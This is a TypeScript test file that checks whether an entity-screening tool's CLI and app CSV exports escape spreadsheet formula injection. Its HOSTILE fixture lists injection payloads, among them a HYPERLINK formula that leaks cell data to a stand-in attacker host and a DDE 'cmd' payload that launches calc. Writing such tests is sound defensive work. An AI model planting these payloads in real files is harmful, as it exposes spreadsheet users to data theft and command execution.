// A registry file can carry any text in a name: "=HYPERLINK(...)", "+cmd", "@SUM", a leading tab.
// Screening exports (the CLI's `screen --out` and the app's screen.export) must write such cells
// so that a spreadsheet shows text instead of running a formula, and both write the same columns.
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Backend } from '../../electron/backend/api/backend';
import { callBackend } from '../../electron/backend/api/dispatch';
import { browserHost } from '../../electron/backend/http/host';
import type { EventMessage } from '../../shared/api/contract';
import { csvLine } from '../../electron/backend/files/csv';
import { runCli } from '../helpers/cli';

const FIXTURES = path.resolve(__dirname, '../fixtures');
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)'];

describe('CSV exports escape formulas', () => {
  let dir: string;
  let db: string;
  let backend: Backend;
  const events: EventMessage[] = [];

  beforeAll(async () => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'ownerscope-csv-formula-'));
    const lines = readFileSync(path.join(FIXTURES, 'csv/entities.csv'), 'utf8').trim().split('\n');
    const rows = HOSTILE.map((name, i) => Papa.unparse([[`X-${i}`, 'csv', name, 'company', 'China', '', '', '', '', '', '', '', '', '', '']]));
    const file = path.join(dir, 'hostile-entities.csv');
    writeFileSync(file, [...lines, ...rows].join('\n') + '\n');
    db = path.join(dir, 'case.db');
    const r = await runCli(['import', '--db', db, file]);
    expect(r.code, r.stderr).toBe(0);
    const host = browserHost();
    host.bind({ add: () => 'http://127.0.0.1/download' } as never);
    backend = new Backend({ dataDir: path.join(dir, 'home'), host });
    backend.onEvent((m) => events.push(m));
  });
  afterAll(() => backend.dispose());

  function check(text: string) {
    const parsed = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
    const nameCol = parsed[0]!.indexOf('name');
    const names = parsed.slice(1).map((r) => r[nameCol]!);
    for (const h of HOSTILE) {
      expect(names).toContain(`'${h}`);
      expect(names).not.toContain(h);
    }
    // no cell anywhere starts with a formula character
    for (const r of parsed.slice(1)) for (const c of r) if (typeof c === 'string' && c.length) expect(c).not.toMatch(/^[=+@\t\r]/);
    return parsed[0]!;
  }

  it('the shared writer escapes tab and CR at a cell start too (the importers trim them from names), and leaves numbers alone', () => {
    expect(csvLine(['\tTAB', '\rCR', 'a,b', -5, 0.5, true, null])).toBe(`"'\tTAB","'\rCR","a,b",-5,0.5,true,\n`);
  });

  it('ownerscope screen --all --out writes the names as text', async () => {
    const out = path.join(dir, 'cli.csv');
    const r = await runCli(['screen', '--db', db, '--all', '--out', out]);
    expect(r.code, r.stderr).toBe(0);
    check(readFileSync(out, 'utf8'));
  });

  it("the app's screen.export writes them as text too, with the CLI's columns", async () => {
    expect((await callBackend(backend, 'case.open', { path: db })).ok).toBe(true);
    const s = await callBackend(backend, 'screen.start', { isAll: true });
    expect(s.ok).toBe(true);
    const jobId = s.ok ? s.value.jobId : '';
    await new Promise<void>((resolve) => {
      const t = setInterval(() => {
        if (events.some((e) => (e.event === 'screen.done' || e.event === 'screen.failed') && e.data.jobId === jobId)) {
          clearInterval(t);
          resolve();
        }
      }, 50);
    });
    const x = await callBackend(backend, 'screen.export', { jobId });
    expect(x.ok).toBe(true);
    const header = check(readFileSync(x.ok ? x.value.path : '', 'utf8'));
    const cliHeader = readFileSync(path.join(dir, 'cli.csv'), 'utf8').split('\n')[0]!.split(',');
    expect(header).toEqual(cliHeader);
  });
});
